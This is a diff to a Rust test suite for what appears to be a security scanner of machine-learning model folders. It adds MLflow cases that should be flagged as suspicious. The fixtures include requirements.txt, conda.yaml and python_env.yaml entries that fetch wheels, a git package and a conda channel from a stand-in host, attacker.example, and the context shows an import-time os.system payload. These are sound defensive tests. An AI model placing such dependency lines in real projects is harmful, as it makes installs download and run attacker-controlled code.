@@ -210,6 +210,16 @@ attacks! {
         file("models/m/config.pbtxt", &"a {".repeat(100_000));
     "requirement-address", "folder/direct-requirement", Suspicious, [],
         file("models--org--name/snapshots/x/requirements.txt", "torch\nevil @ https://attacker.example/evil.whl\n");
+    "mlflow-requirement-address", "folder/direct-requirement", Suspicious, [],
+        beside_mlflow("requirements.txt", "torch\n-e git+git@attacker.example:evil.git#egg=evil\n");
+    "mlflow-conda-address", "folder/direct-requirement", Suspicious, [],
+        beside_mlflow("conda.yaml", "dependencies:\n- python=3.11\n- pip:\n  - evil @ https://attacker.example/evil.whl\n");
+    "mlflow-conda-channel", "folder/direct-requirement", Suspicious, [],
+        beside_mlflow("conda.yaml", "channels:\n- https://attacker.example/channel\ndependencies:\n- python=3.11\n");
+    "mlflow-environment-address", "folder/direct-requirement", Suspicious, [],
+        beside_mlflow("python_env.yaml", "python: 3.11\nbuild_dependencies:\n- https://attacker.example/pip.whl\n");
+    "mlflow-environment-cut", "unreadable/damaged", Unreadable, [],
+        beside_mlflow("conda.yaml", "dependencies:\n- pip: [\"torch");
 }
 
 fn file(name: &str, text: &str) -> Vec<(String, Content)> {
@@ -237,10 +247,19 @@ const EFFECT: &str = "import os\nos.system('id')\n";
 
 /// A model of MLflow with a line about its Python function, and a file that acts when it is imported.
 fn mlflow(line: &str, file: &str) -> Vec<(String, Content)> {
-    let text = format!("flavors:\n  python_function:\n    {line}\nmodel_uuid: x\n");
+    mlflow_with(line, file, EFFECT)
+}
+
+/// A model of MLflow that needs no code of its own, and a file beside it.
+fn beside_mlflow(file: &str, text: &str) -> Vec<(String, Content)> {
+    mlflow_with("loader_module: mlflow.sklearn", file, text)
+}
+
+fn mlflow_with(line: &str, file: &str, text: &str) -> Vec<(String, Content)> {
+    let model = format!("flavors:\n  python_function:\n    {line}\nmodel_uuid: x\n");
     vec![
-        ("m/MLmodel".to_owned(), Content::Bytes(text.into())),
-        (format!("m/{file}"), Content::Bytes(EFFECT.into())),
+        ("m/MLmodel".to_owned(), Content::Bytes(model.into())),
+        (format!("m/{file}"), Content::Bytes(text.into())),
     ]
 }
 
